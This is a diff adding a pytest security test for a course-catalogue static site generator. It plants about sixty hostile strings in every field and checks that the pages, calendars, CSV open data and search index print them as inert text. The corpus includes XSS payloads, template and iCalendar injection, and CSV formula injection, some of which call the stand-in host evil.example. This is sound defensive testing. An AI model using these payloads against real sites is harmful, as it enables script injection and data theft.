@@ -1,0 +1,784 @@
+"""Hostile text in every field of every source: `check` names it, or the site prints it as text.
+
+Each vector below goes into every plain-text and every Markdown field of every kind of source
+(courses, teachers, schools, venues, school themes, guides, brands), with a marker of its own,
+7FFFVVV (field FFF, vector VVV), so a finding names both. The demo catalogue has several files
+of each kind, so one build can hold every vector in every field: a field's vectors are spread
+over its instances (the 25 courses, 18 teachers, 4 schools, 3 guides, 4 brands...), a few
+vectors to a value.
+
+    make test            HOSTILE_ROUNDS=1: one build, all 59 vectors in all 36 fields, a field's
+                         vectors shared out over its instances (up to 20 in one guide body or
+                         one brand footer, two or three in one course title); every page of
+                         every brand at phone size, one page of each kind at desktop size, the
+                         default site read in Python
+    make audit-hostile   HOSTILE_ROUNDS=20 HOSTILE_FULL=1: every vector alone in its value in
+                         every field, over 20 builds; every page of every site at both sizes
+
+Per round: `catalogue check` (a Markdown field may refuse a vector with H801-H804, and a guide
+body an image path with F901-F904: "check names it"; a one-line field may refuse control
+characters; anything else must be accepted), then `catalogue build` and
+`catalogue build --all-sites`, then every page of every brand in Chromium at phone and desktop
+size, and the calendars, open data, search index and PDFs in Python.
+"""
+
+from __future__ import annotations
+
+import csv
+import json
+import os
+import re
+import subprocess
+from collections import defaultdict
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import pytest
+import yaml
+
+from conftest import BRANDS, CATALOGUE, REPO, TODAY_DEMO, copy_catalogue, serve
+
+ROUNDS = int(os.environ.get("HOSTILE_ROUNDS", "1"))
+# make test: every page of every brand at phone size, one page of each kind at desktop size,
+# the default site in Python only. HOSTILE_FULL=1: every page of every site at both sizes.
+FULL = os.environ.get("HOSTILE_FULL") == "1"
+VIEWPORTS = {"phone": {"width": 390, "height": 844}, "desktop": {"width": 1280, "height": 900}}
+TODAY = TODAY_DEMO.isoformat()
+
+# --- The corpus ----------------------------------------------------------------------------
+# `{m}` becomes the marker. Multi-line and control-character vectors are kept apart from the
+# others in one-line fields, so that a refusal by the one-line rule refuses only them.
+
+VECTORS: list[str] = [
+    # Breaking out of an attribute or a text node into a new element with a handler
+    '"><img src=x onerror=alert({m})>',
+    "'><img src=x onerror=alert({m})>",
+    '" onfocus="alert({m})" autofocus="',
+    "' onmouseover='alert({m})' x='",
+    "x onmouseover=alert({m}) x=",
+    "`><svg onload=alert({m})>`",
+    # Breaking out of a <script> element (the JSON-LD) or into its comment state
+    "</script><svg onload=alert({m})>",
+    "</ScRiPt ><img src=x onerror=alert({m})>",
+    "<!--<script>x{m}",
+    "<script>alert({m})</script>",
+    # Elements that run code without a click
+    "<svg><animate onbegin=alert({m}) attributeName=x dur=1s>",
+    "<details open ontoggle=alert({m})>",
+    "<input autofocus onfocus=alert({m})>",
+    "<body onload=alert({m})>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert({m})>",
+    "<div onmouseover=alert({m})>hover</div>",
+    # Dangerous URL schemes, plain and disguised
+    "javascript:alert({m})",
+    '<a href="javascript:alert({m})">x</a>',
+    "<a href=JaVaScRiPt:alert({m})>x</a>",
+    '<a href="java&#x09;script:alert({m})">x</a>',
+    "data:text/html,<script>alert({m})</script>",
+    "vbscript:msgbox({m})",
+    # Embedded documents and page-wide elements
+    '<iframe src="javascript:alert({m})"></iframe>',
+    '<object data="javascript:alert({m})"></object>',
+    '<embed src="javascript:alert({m})">',
+    '<form action="javascript:alert({m})"><button formaction=javascript:alert({m})>x</button></form>',
+    "<style>@import 'http://evil.example/{m}.css';</style>",
+    "<base href=//evil.example/{m}/>",
+    "<meta http-equiv=refresh content=0;url=javascript:alert({m})>",
+    # Script-string breakers (inline JavaScript and JSON)
+    "';alert({m})//",
+    '";alert({m})//',
+    "${{alert({m})}}",
+    "\\u003cimg src=x onerror=alert({m})\\u003e",
+    "\\x3cscript\\x3ealert({m})\\x3c/script\\x3e",
+    # Entities, URL-encoding and look-alikes: printed literally, never decoded a second time
+    "&lt;b&gt;ent{m}&lt;/b&gt;",
+    "&#60;u&#62;num{m}&#60;/u&#62;",
+    "%3Cscript%3Ealert({m})%3C/script%3E",
+    "\uff1cscript\uff1ealert({m})\uff1c/script\uff1e",
+    "<u>u{m}</u>",
+    # Template injection: Jinja and friends must print it literally
+    "tpl{{7*7}}{m}",
+    "{% raw %}raw{m}",
+    "{#c{m}",
+    "{{ config }}cfg{m}",
+    # Markdown: links, images, autolinks, reference links, raw HTML blocks
+    "[md{m}](javascript:alert({m}))",
+    '![x{m}](x" onerror="alert({m}))',
+    "<javascript:alert({m})>",
+    "[x{m}](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "**bold{m}** _em_",
+    # Spreadsheet formulas (OWASP CSV injection): the open data must not start a cell with them
+    '=HYPERLINK("http://evil.example/{m}","x")',
+    "+cmd|' /C calc'!A{m}",
+    "-2+3+{m}",
+    "@SUM(1+{m})",
+    # iCalendar: text that must be escaped, not parsed
+    "semi;colon,comma\\backslash:{m}",
+    # YAML-looking text (safe_dump quotes it)
+    "key: value # &anchor *alias !!python/object {m}",
+    # Multi-line and control characters (a one-line field may refuse these)
+    "x{m}\r\nBEGIN:VEVENT\r\nSUMMARY:evil\r\nEND:VEVENT",
+    "\tleading tab {m}",
+    "\u2028line{m}\u2029paragraph",
+    "[ref{m}][r{m}]\n\n[r{m}]: javascript:alert({m})",
+    "<div>\n<script>alert({m})</script>\n</div>",
+]
+
+# Vectors a one-line field may refuse (the one-line rule): line breaks and control characters.
+CONTROL = {i for i, v in enumerate(VECTORS) if re.search(r"[\x00-\x1f\x7f\u2028\u2029]", v)}
+
+# A Markdown field may refuse a vector with these ("check names it").
+MARKDOWN_REFUSALS = {"H801", "H802", "H803", "H804", "F901", "F902", "F903", "F904"}
+
+# Text that, if a page shows it, proves the vector was evaluated or decoded once too often.
+FORBIDDEN_TEXT = {VECTORS.index("tpl{{7*7}}{m}"): "tpl49{m}",
+                  VECTORS.index("{% raw %}raw{m}"): "(?<!%\\})raw{m}"}
+FORBIDDEN_PLAIN = {VECTORS.index("&lt;b&gt;ent{m}&lt;/b&gt;"): "<b>ent{m}",
+                   VECTORS.index("&#60;u&#62;num{m}&#60;/u&#62;"): "<u>num{m}"}
+
+MARKER = r"(?<![0-9A-Za-z])7\d{6}(?![0-9A-Za-z])"
+
+# --- The fields -----------------------------------------------------------------------------
+# (name, files, path, Markdown?); "*" is every item of a list or map that is there.
+
+FIELDS: list[tuple[str, str, tuple, bool]] = [
+    ("course.title", "courses/*.yaml", ("title",), False),
+    ("course.summary", "courses/*.yaml", ("summary",), False),
+    ("course.description", "courses/*.yaml", ("description",), True),
+    ("course.outcomes", "courses/*.yaml", ("outcomes", "*"), False),
+    ("course.registration.note", "courses/*.yaml", ("registration", "note"), False),
+    ("offering.room", "courses/*.yaml", ("offerings", "*", "room"), False),
+    ("offering.note", "courses/*.yaml", ("offerings", "*", "note"), False),
+    ("offering.status_note", "courses/*.yaml", ("offerings", "*", "status_note"), False),
+    ("offering.registration.note", "courses/*.yaml",
+     ("offerings", "*", "registration", "note"), False),
+    ("session.topic", "courses/*.yaml", ("offerings", "*", "sessions", "*", "topic"), False),
+    ("session.room", "courses/*.yaml", ("offerings", "*", "sessions", "*", "room"), False),
+    ("teacher.name", "teachers/*.yaml", ("name",), False),
+    ("teacher.title", "teachers/*.yaml", ("title",), False),
+    ("teacher.bio", "teachers/*.yaml", ("bio",), True),
+    ("school.name", "schools/*.yaml", ("name",), False),
+    ("school.municipality", "schools/*.yaml", ("municipality",), False),
+    ("school.about", "schools/*.yaml", ("about",), True),
+    ("school.contact.address", "schools/*.yaml", ("contact", "address"), False),
+    ("school.provider_note", "schools/*.yaml", ("provider_note",), False),
+    ("school.registration.note", "schools/*.yaml", ("registration", "note"), False),
+    ("venue.name", "schools/*.yaml", ("venues", "*", "name"), False),
+    ("venue.address", "schools/*.yaml", ("venues", "*", "address"), False),
+    ("venue.city", "schools/*.yaml", ("venues", "*", "city"), False),
+    ("venue.accessibility", "schools/*.yaml", ("venues", "*", "accessibility"), False),
+    ("venue.directions", "schools/*.yaml", ("venues", "*", "directions"), False),
+    ("venue.rooms", "schools/*.yaml", ("venues", "*", "rooms", "*"), False),
+    ("theme.name", "schools/*.yaml", ("themes", "*", "name"), False),
+    ("theme.description", "schools/*.yaml", ("themes", "*", "description"), False),
+    ("guide.title", "guides/*.md", ("title",), False),
+    ("guide.summary", "guides/*.md", ("summary",), False),
+    ("guide.license", "guides/*.md", ("license",), False),
+    ("guide.body", "guides/*.md", ("body",), True),
+    ("brand.name", "sites/*/brand.yaml", ("name",), False),
+    ("brand.municipality", "sites/*/brand.yaml", ("municipality",), False),
+    ("brand.footer", "sites/*/brand.yaml", ("footer",), False),
+    ("brand.contact.address", "sites/*/brand.yaml", ("contact", "address"), False),
+]
+# Rooms are compared for double booking, so a room keeps a number of its own.
+NUMBERED = {"offering.room", "session.room", "venue.rooms"}
+
+
+def marker(field_no: int, vector_no: int) -> str:
+    return f"7{field_no:03d}{vector_no:03d}"
+
+
+def vector_text(field_no: int, vector_no: int) -> str:
+    return VECTORS[vector_no].replace("{m}", marker(field_no, vector_no))
+
+
+def describe(mark: str) -> str:
+    field_no, vector_no = int(mark[1:4]), int(mark[4:])
+    return f"{FIELDS[field_no][0]} ← vector {vector_no} {VECTORS[vector_no]!r}"
+
+
+def markers_in(text: str) -> list[str]:
+    return sorted(set(re.findall(MARKER, text)))
+
+
+# --- Writing the hostile catalogue ----------------------------------------------------------
+
+
+@dataclass
+class Value:
+    """One hostile value: which field, where it is, which vectors it holds."""
+    field_no: int
+    file: str
+    container: object = field(repr=False)
+    key: object = None
+    prefix: str = ""  # a guide body keeps its own text (and its h1) before the vectors
+    number: int = 0
+    vectors: list[int] = field(default_factory=list)
+
+    @property
+    def markdown(self) -> bool:
+        return FIELDS[self.field_no][3]
+
+    def ordered(self) -> list[int]:
+        # A formula vector leads its value, so that it would start a spreadsheet cell.
+        formula = [v for v in self.vectors if VECTORS[v][:1] in "=+-@"]
+        return formula + [v for v in self.vectors if v not in formula]
+
+    @property
+    def text(self) -> str:
+        texts = [vector_text(self.field_no, v) for v in self.ordered()]
+        if not texts:
+            return self.prefix or f"Tekst {self.field_no} {self.number}"
+        if self.markdown:
+            return self.prefix + "\n\n".join(texts) + "\n"
+        text = " · ".join(texts)
+        return f"{text} {self.number}" if FIELDS[self.field_no][0] in NUMBERED else text
+
+    def write(self) -> None:
+        self.container[self.key] = self.text
+
+
+def slots(field_no: int, instances: int, round_no: int, rounds: int) -> list[list[int]]:
+    """The vectors for each instance of a field in one round; every vector once over all rounds.
+
+    In a one-line field, control vectors share a value only with each other, so that a refusal
+    by the one-line rule leaves the other vectors in the test.
+    """
+    total = instances * rounds
+    every = list(range(len(VECTORS)))
+    groups = [every]
+    if not FIELDS[field_no][3] and total > 1:
+        groups = [sorted(CONTROL), [v for v in every if v not in CONTROL]]
+    shares = [max(1, total * len(g) // len(VECTORS)) for g in groups]
+    shares[-1] = max(1, total - sum(shares[:-1]))
+    result: list[list[int]] = [[] for _ in range(total)]
+    start = 0
+    for group, share in zip(groups, shares):
+        for i, vector in enumerate(group):
+            result[start + (i + field_no) % share].append(vector)
+        start += share
+    return result[round_no * instances:(round_no + 1) * instances]
+
+
+def places(data, path: tuple):
+    """(container, key) for every place `path` names in `data`; '*' walks lists and maps.
+
+    A missing optional field is created; a missing list is not (there is nothing to walk).
+    """
+    step, rest = path[0], path[1:]
+    keys = (list(data) if isinstance(data, dict) else range(len(data))) if step == "*" else [step]
+    for key in keys:
+        if not rest:
+            yield data, key
+        elif isinstance(data.get(key) if isinstance(data, dict) else data[key], (dict, list)):
+            yield from places(data[key], rest)
+        elif rest[0] != "*" and isinstance(data, dict) and key not in data:
+            data[key] = {}
+            yield from places(data[key], rest)
+
+
+class _Dumper(yaml.SafeDumper):
+    """Multi-line text as a | block, so that `check`'s line numbers map onto the vectors."""
+
+
+_Dumper.add_representer(str, lambda dumper, text: dumper.represent_scalar(
+    "tag:yaml.org,2002:str", text, style="|" if "\n" in text.strip("\n") else None))
+
+
+def read_source(path: Path) -> dict:
+    text = path.read_text(encoding="utf-8")
+    if path.suffix == ".md":
+        _, front, body = text.split("---\n", 2)
+        return {**yaml.safe_load(front), "body": body}
+    return yaml.safe_load(text)
+
+
+def dump(data: dict) -> str:
+    return yaml.dump(data, Dumper=_Dumper, allow_unicode=True, sort_keys=False, width=10_000)
+
+
+def write_source(path: Path, data: dict) -> None:
+    if path.suffix == ".md":
+        front = {k: v for k, v in data.items() if k != "body"}
+        path.write_text("---\n" + dump(front) + "---\n" + data["body"], encoding="utf-8")
+    else:
+        path.write_text(dump(data), encoding="utf-8")
+
+
+def make_hostile(root: Path, round_no: int, rounds: int) -> tuple[list[Value], dict]:
+    """Write one round's hostile values into the catalogue at `root`."""
+    sources: dict[str, dict] = {}
+    for path in sorted(root.glob("teachers/*.yaml")):
+        data = read_source(path)
+        consent = data.setdefault("consent", {})
+        consent.pop("withdrawn", None)  # a name and bio are shown only with consent
+        consent.setdefault("profile", TODAY_DEMO)
+        sources[path.relative_to(root).as_posix()] = data
+    values: list[Value] = []
+    for field_no, (_, pattern, path, markdown) in enumerate(FIELDS):
+        found = []
+        for file in sorted(root.glob(pattern)):
+            name = file.relative_to(root).as_posix()
+            data = sources.setdefault(name, read_source(file) if name not in sources else None)
+            found += [(name, container, key) for container, key in places(data, path)]
+        for number, ((name, container, key), vectors) in enumerate(
+                zip(found, slots(field_no, len(found), round_no, rounds))):
+            if not vectors:
+                continue
+            prefix = container[key] + "\n" if path == ("body",) else ""
+            value = Value(field_no, name, container, key, prefix, number, vectors)
+            value.write()
+            values.append(value)
+    for name, data in sources.items():
+        write_source(root / name, data)
+    return values, sources
+
+
+# --- Check: which vectors each field accepts ------------------------------------------------
+
+def check(root: Path) -> list[dict]:
+    done = subprocess.run([str(CATALOGUE), "check", "--format", "json", "--today", TODAY],
+                          cwd=root, capture_output=True, text=True, timeout=300)
+    assert done.returncode in (0, 1), done.stdout + done.stderr
+    return [d for d in json.loads(done.stdout)["diagnostics"] if d["severity"] == "error"]
+
+
+def spans(root: Path, value: Value) -> list[tuple[int, int, int]]:
+    """(vector, first line, last line) of each vector of a value, as `check` counts lines:
+    from where the text starts, plus the line breaks in the text before it."""
+    text = (root / value.file).read_text(encoding="utf-8")
+    guide = value.file.endswith(".md")
+    if guide and value.key == "body":
+        first = text.split("\n---\n", 1)[0].count("\n") + 3
+    else:
+        node = _node(yaml.compose(text.split("\n---\n", 1)[0] if guide else text), value.text)
+        if not value.markdown:
+            return [(v, node.start_mark.line + 1, node.end_mark.line + 1) for v in value.vectors]
+        first = node.start_mark.line + (2 if node.style in ("|", ">") else 1)
+    result, offset = [], 0
+    for v in value.ordered():
+        vector = vector_text(value.field_no, v)
+        offset = value.text.index(vector, offset)
+        line = first + value.text.count("\n", 0, offset)
+        result.append((v, line, line + vector.count("\n")))
+    return result
+
+
+def _node(root, text: str):
+    """The YAML node holding `text` (each hostile value is unique)."""
+    stack = [root]
+    while stack:
+        node = stack.pop()
+        if isinstance(node, yaml.ScalarNode) and node.value == text:
+            return node
+        if isinstance(node, yaml.MappingNode):
+            stack += [v for _, v in node.value]
+        elif isinstance(node, yaml.SequenceNode):
+            stack += node.value
+    raise AssertionError(f"value not found in the written file: {text!r}")
+
+
+def accept(root: Path, values: list[Value], sources: dict) -> tuple[list[str], list[str]]:
+    """Drop the vectors `check` is right to refuse, write the rest, check again.
+
+    Returns (refusals `check` named, refusals or errors that are wrong).
+    """
+    named, wrong = [], []
+    by_file = defaultdict(list)
+    for value in values:
+        by_file[value.file].append(value)
+    refused: dict[int, set[int]] = defaultdict(set)
+    for d in check(root):
+        where = f"{d['file']}:{d['line']}: {d['code']} {d['message']}"
+        markdown = d["code"] in MARKDOWN_REFUSALS
+        hits = [(value, v) for value in by_file.get(d["file"], []) if value.markdown == markdown
+                for v, first, last in spans(root, value) if first <= d["line"] <= last]
+        if not hits:
+            wrong.append(f"{where} (not at a hostile value)")
+        for value, v in hits:
+            what = f"{FIELDS[value.field_no][0]} ← vector {v} {VECTORS[v]!r}: {where}"
+            right = d["code"] in MARKDOWN_REFUSALS if value.markdown else v in CONTROL
+            (named if right else wrong).append(what)
+            refused[id(value)].add(v)
+    for value in values:
+        if refused[id(value)]:
+            value.vectors = [v for v in value.vectors if v not in refused[id(value)]]
+            value.write()
+    for name in {v.file for v in values}:
+        write_source(root / name, sources[name])
+    wrong += [f"still refused after dropping what check named: {d['file']}:{d['line']}: "
+              f"{d['code']} {d['message']}" for d in check(root)]
+    return named, wrong
+
+
+# --- Build ----------------------------------------------------------------------------------
+
+def build(root: Path) -> list[str]:
+    """The default build and every brand (`--all-sites`), side by side; their errors."""
+    commands = {"catalogue build": ["build", "--today", TODAY],
+                "catalogue build --all-sites": ["build", "--all-sites", "--out", "out",
+                                                "--today", TODAY]}
+    running = {name: subprocess.Popen([str(CATALOGUE), *args], cwd=root, text=True,
+                                      stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
+               for name, args in commands.items()}
+    errors = []
+    for name, process in running.items():
+        output, _ = process.communicate(timeout=600)
+        if process.returncode != 0:
+            tail = "\n    ".join(output.strip().splitlines()[-6:])
+            errors.append(f"{name} exits {process.returncode}:\n    {tail}")
+    return errors
+
+
+def sites(root: Path) -> dict[str, Path]:
+    """Every site built: the default one and one per brand."""
+    found = {"(default)": root / "site"} if (root / "site" / "index.html").is_file() else {}
+    found |= {p.parent.name: p.parent for p in sorted((root / "out").glob("*/index.html"))}
+    return found
+
+
+def pages(folder: Path) -> list[str]:
+    return sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*.html"))
+
+
+def one_of_each_kind(names: list[str]) -> list[str]:
+    """The first page of each kind: kurser/a/index.html and kurser/b/index.html are one kind."""
+    kinds: dict[str, str] = {}
+    for name in names:
+        parts = name.split("/")
+        kind = "/".join(parts[:1] + ["*"] * (len(parts) - 2) + parts[-1:]) if len(parts) > 2 else name
+        kinds.setdefault(kind, name)
+    return sorted(kinds.values())
+
+
+def _named(text: str) -> str:
+    """The vectors and fields a piece of output holds, by their markers."""
+    return "; ".join(describe(m) for m in markers_in(text)) or "no marker"
+
+
+# --- Outputs read in Python -----------------------------------------------------------------
+
+LD_JSON = re.compile(r'<script type="application/ld\+json">(.*?)</script>', re.S)
+
+
+def json_ld_problems(site: str, folder: Path) -> list[str]:
+    found = []
+    for name in pages(folder):
+        for block in LD_JSON.findall((folder / name).read_text(encoding="utf-8")):
+            try:
+                json.loads(block)
+            except ValueError as error:
+                found.append(f"{site}/{name}: JSON-LD does not parse ({error}): {_named(block)}")
+    return found
+
+
+def _words(text: str) -> str:
+    return " ".join(re.split(r"[\s\u2028\u2029]+", text)).strip()
+
+
+def calendar_problems(site: str, folder: Path) -> list[str]:
+    from icalendar import Calendar
+
+    found = []
+    for path in sorted(folder.rglob("*.ics")):
+        name = f"{site}/{path.relative_to(folder).as_posix()}"
+        try:
+            calendar = Calendar.from_ical(path.read_bytes())
+        except ValueError as error:
+            found.append(f"{name}: does not parse: {error}")
+            continue
+        for event in calendar.walk("VEVENT"):
+            if str(event.get("SUMMARY", "")).startswith("evil"):
+                found.append(f"{name}: an injected event: {event.to_ical()[:200]!r}")
+            for prop in ("SUMMARY", "LOCATION", "DESCRIPTION"):
+                value = str(event.get(prop, ""))
+                for mark in markers_in(value):
+                    field_no, vector_no = int(mark[1:4]), int(mark[4:])
+                    expected = _words(vector_text(field_no, vector_no))
+                    if expected not in _words(value):
+                        found.append(f"{name}: {prop} does not keep the text of "
+                                     f"{describe(mark)}: {value[:160]!r}")
+    return found
+
+
+def open_data_problems(site: str, folder: Path) -> list[str]:
+    from frictionless import validate
+
+    found = []
+    for path in sorted((folder / "data").glob("*.csv")):
+        with path.open(encoding="utf-8", newline="") as handle:
+            try:
+                rows = list(csv.reader(handle))
+            except csv.Error as error:
+                found.append(f"{site}/data/{path.name}: does not parse: {error}")
+                continue
+        for number, row in enumerate(rows, start=1):
+            for cell in row:
+                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                    found.append(f"{site}/data/{path.name}:{number}: a cell starts a formula: "
+                                 f"{cell[:60]!r} ({_named(cell)})")
+    package = folder / "data" / "datapackage.json"
+    if package.is_file():
+        report = validate(str(package))
+        if not report.valid:
+            errors = [e for task in report.tasks for e in task.errors][:5] + report.errors[:5]
+            found.append(f"{site}/data/datapackage.json does not validate: "
+                         + "; ".join(getattr(e, "message", str(e)) for e in errors))
+    else:
+        found.append(f"{site}/data/datapackage.json is missing")
+    return found
+
+
+LIVE_MARKUP = re.compile(r"<\s*(script|img|svg|iframe|math|style|base|meta|object|embed|details|"
+                         r"input|body|form|button|u)\b|\bon[a-z]+\s*=", re.I)
+
+
+def search_index_problems(site: str, folder: Path) -> list[str]:
+    found = []
+    for index in [folder / "search" / "search_index.json", *folder.glob("pagefind/**/*.json")]:
+        if not index.is_file():
+            continue
+        try:
+            data = json.loads(index.read_text(encoding="utf-8"))
+        except ValueError as error:
+            found.append(f"{site}/{index.relative_to(folder)}: does not parse: {error}")
+            continue
+        for doc in data.get("docs", []) if isinstance(data, dict) else []:
+            for key in ("title", "text"):
+                text = str(doc.get(key, ""))
+                for match in LIVE_MARKUP.finditer(text):
+                    near = text[max(0, match.start() - 80):match.end() + 80]
+                    if markers_in(near):
+                        found.append(f"{site}/search ({doc.get('location')}) {key}: raw "
+                                     f"{match[0]!r}: {_named(near)}")
+    return found
+
+
+def pdf_problems(site: str, folder: Path) -> list[str]:
+    from pypdf import PdfReader
+
+    found = []
+    for path in sorted(folder.rglob("*.pdf")):
+        try:
+            reader = PdfReader(path)
+            assert len(reader.pages) > 0
+            reader.pages[0].extract_text()
+        except Exception as error:  # noqa: BLE001 - any failure to open is the finding
+            found.append(f"{site}/{path.relative_to(folder)}: does not open: {error!r}")
+    return found
+
+
+# --- Pages in Chromium ----------------------------------------------------------------------
+
+# Walks the whole DOM once the page has loaded; returns what injected text made live.
+INSPECT = r"""([marker, forbidden]) => {
+  const mark = new RegExp(marker);
+  const found = {live: [], jsonld: [], text: [], markup: []};
+  const bad = /^(javascript|vbscript|data:text\/html)/i;
+  const urls = ["href", "src", "action", "formaction", "data", "xlink:href", "poster", "srcdoc"];
+  const data = ["application/ld+json", "application/json"];
+  const grab = (el) => el.outerHTML.slice(0, 160);
+  for (const el of document.querySelectorAll("*")) {
+    const tag = el.localName;
+    for (const {name, value} of el.attributes) {
+      if (name.startsWith("on") && mark.test(value)) found.live.push(`handler ${name}: ${grab(el)}`);
+      if (urls.includes(name) && bad.test(value.replace(/[\s\x00-\x1f]/g, "")))
+        found.live.push(`${name}=${value.slice(0, 80)}: ${grab(el)}`);
+    }
+    if (tag === "script" && !data.includes(el.type) && mark.test(el.textContent))
+      found.live.push(`script: ${grab(el)}`);
+    if (["iframe", "frame", "object", "embed", "base"].includes(tag))
+      found.live.push(`<${tag}>: ${grab(el)}`);
+    if (tag === "meta" && (el.httpEquiv || "").toLowerCase() === "refresh")
+      found.live.push(`meta refresh: ${grab(el)}`);
+    if ((tag === "style" && mark.test(el.textContent)) || (tag === "link" && mark.test(el.href)))
+      found.live.push(`style: ${grab(el)}`);
+    const own = [...el.attributes].some(a => mark.test(a.value));
+    if (["u", "img", "svg", "math", "mglyph", "input", "details", "form", "button", "animate",
+         "strong"].includes(tag) && (own || /^(u|bold)7\d{6}$/.test(el.textContent.trim())))
+      found.markup.push(grab(el));
+  }
+  for (const script of document.querySelectorAll('script[type="application/ld+json"]')) {
+    try { JSON.parse(script.textContent); }
+    catch (error) { found.jsonld.push(`${error.message}: ${script.textContent.slice(0, 160)}`); }
+  }
+  const text = document.body ? document.body.textContent : "";
+  for (const [pattern, label] of forbidden)
+    if (new RegExp(pattern).test(text)) found.text.push(label);
+  found.h1 = document.querySelectorAll("h1").length;
+  found.footer = !!document.querySelector("footer.md-footer .md-copyright");
+  return found;
+}"""
+
+
+def forbidden_text(values: list[Value]) -> list[tuple[str, str]]:
+    """(pattern, what it means) for text a page must not show, given the vectors placed."""
+    result = []
+    for value in values:
+        for v in value.vectors:
+            mark = marker(value.field_no, v)
+            pattern = FORBIDDEN_TEXT.get(v) or (None if value.markdown else FORBIDDEN_PLAIN.get(v))
+            if pattern:
+                result.append((pattern.replace("{m}", mark),
+                               f"shows {pattern.replace('{m}', mark)!r}, so it was evaluated "
+                               f"or decoded again: {describe(mark)}"))
+    return result
+
+
+def browse(browser, site: str, folder: Path, viewport: str, forbidden, plain: set[str],
+           findings: dict[str, list[str]], names: list[str]) -> None:
+    """The pages `names` of one site at one size; what went wrong, into `findings`."""
+    with serve(folder) as origin:
+        context = browser.new_context(viewport=VIEWPORTS[viewport])
+        # Recorded below; refused here so that a page never waits for a name lookup.
+        context.route(re.compile(rf"^(?!{re.escape(origin)}/)"), lambda route: route.abort())
+        page = context.new_page()
+        where = {"page": ""}
+        page.on("dialog", lambda d: (findings["dialog"].append(
+            f"[{viewport}] {site}/{where['page']}: {d.type}({d.message}) from "
+            f"{_named(d.message)}"), d.dismiss()))
+        page.on("console", lambda m: m.type == "error" and findings["console"].append(
+            f"[{viewport}] {site}/{where['page']}: {m.text[:200]}"))
+        page.on("pageerror", lambda e: findings["console"].append(
+            f"[{viewport}] {site}/{where['page']}: uncaught {e}"))
+        page.on("request", lambda r: not r.url.startswith(origin) and findings["requests"].append(
+            f"[{viewport}] {site}/{where['page']}: {r.url} ({_named(r.url)})"))
+        for name in names:
+            where["page"] = name
+            page.goto(f"{origin}/{name}", wait_until="load")
+            result = page.evaluate(INSPECT, [MARKER, forbidden])
+            here = f"[{viewport}] {site}/{name}"
+            findings["live"] += [f"{here}: {item} ({_named(item)})" for item in result["live"]]
+            findings["json-ld"] += [f"{here}: {item} ({_named(item)})"
+                                    for item in result["jsonld"]]
+            findings["text"] += [f"{here}: {item}" for item in result["text"]]
+            findings["markup"] += [f"{here}: {item} ({_named(item)})" for item in result["markup"]
+                                   if set(markers_in(item)) & plain]
+            if result["h1"] != 1 or not result["footer"]:
+                findings["structure"].append(
+                    f"{here}: {result['h1']} h1, footer {'there' if result['footer'] else 'gone'}")
+        context.close()
+
+
+# --- One round, and the tests ---------------------------------------------------------------
+
+KINDS = ["check", "build", "dialog", "console", "requests", "live", "json-ld", "markup", "text",
+         "structure", "calendar", "open data", "search", "pdf"]
+
+
+@pytest.fixture(scope="module")
+def findings(browser, tmp_path_factory) -> dict[str, list[str]]:
+    """Every round: hostile values in, check, build, read every output; what went wrong."""
+    found: dict[str, list[str]] = {kind: [] for kind in KINDS}
+    found["named by check"], found["sites"] = [], []
+    for round_no in range(ROUNDS):
+        root = copy_catalogue(REPO, tmp_path_factory.mktemp(f"hostile{round_no}") / "demo")
+        values, sources = make_hostile(root, round_no, ROUNDS)
+        named, wrong = accept(root, values, sources)
+        found["named by check"] += named
+        found["check"] += wrong
+        if wrong:
+            continue
+        broken = build(root)
+        if broken:
+            # Name the failure, then build without line breaks and control characters (which
+            # the one-line rule may refuse anyway), so the rest of the corpus is still read.
+            found["build"] += broken
+            for value in values:
+                if set(value.vectors) & CONTROL:
+                    value.vectors = [v for v in value.vectors if v not in CONTROL]
+                    value.write()
+            for name in {v.file for v in values}:
+                write_source(root / name, sources[name])
+            found["build"] += [f"also without the control vectors: {e}" for e in build(root)]
+        found["sites"] += list(sites(root))
+        plain = {marker(v.field_no, x) for v in values if not v.markdown for x in v.vectors}
+        forbidden = forbidden_text(values)
+        for site, folder in sites(root).items():
+            found["json-ld"] += json_ld_problems(site, folder)
+            found["calendar"] += calendar_problems(site, folder)
+            found["open data"] += open_data_problems(site, folder)
+            found["search"] += search_index_problems(site, folder)
+            found["pdf"] += pdf_problems(site, folder)
+            every = pages(folder)
+            for viewport, names in [("phone", every), ("desktop", one_of_each_kind(every))]:
+                if FULL or site != "(default)":
+                    browse(browser, site, folder, viewport, forbidden, plain, found,
+                           every if FULL else names)
+    return found
+
+
+def _report(items: list[str]) -> str:
+    """One line per finding, with the pages it is on: 'what  [N pages: where, ...]'."""
+    grouped: dict[str, list[str]] = defaultdict(list)
+    for item in items:
+        where, _, what = item.partition(": ")
+        grouped[what].append(where)
+    lines = [f"{what}  [{len(wheres)}× {', '.join(sorted(set(wheres))[:3])}]"
+             for what, wheres in sorted(grouped.items())]
+    return f"{len(items)} findings, {len(lines)} distinct:\n" + "\n".join(lines[:150])
+
+
+def test_check_accepts_hostile_plain_text_and_names_what_it_refuses_in_markdown(findings):
+    assert findings["check"] == [], _report(findings["check"])
+
+
+def test_every_accepted_vector_builds_the_default_site_and_every_brand(findings):
+    assert findings["build"] == [], _report(findings["build"])
+    assert len(findings["sites"]) == ROUNDS * (1 + len(BRANDS)), findings["sites"]
+
+
+def _built(findings) -> None:
+    assert findings["sites"], "nothing was built, so there is nothing to read"
+
+
+def test_no_page_opens_a_dialog_or_logs_an_error(findings):
+    _built(findings)
+    assert findings["dialog"] + findings["console"] == [], _report(
+        findings["dialog"] + findings["console"])
+
+
+def test_no_injected_handler_url_script_or_element_is_live_in_the_dom(findings):
+    _built(findings)
+    assert findings["live"] == [], _report(findings["live"])
+
+
+def test_no_page_asks_another_origin_for_anything(findings):
+    _built(findings)
+    assert findings["requests"] == [], _report(findings["requests"])
+
+
+def test_plain_text_is_never_markup_and_never_evaluated_or_decoded_twice(findings):
+    _built(findings)
+    assert findings["markup"] + findings["text"] == [], _report(
+        findings["markup"] + findings["text"])
+
+
+def test_every_json_ld_block_parses_in_the_browser_and_in_python(findings):
+    _built(findings)
+    assert findings["json-ld"] == [], _report(findings["json-ld"])
+
+
+def test_every_page_keeps_exactly_one_h1_and_its_footer(findings):
+    _built(findings)
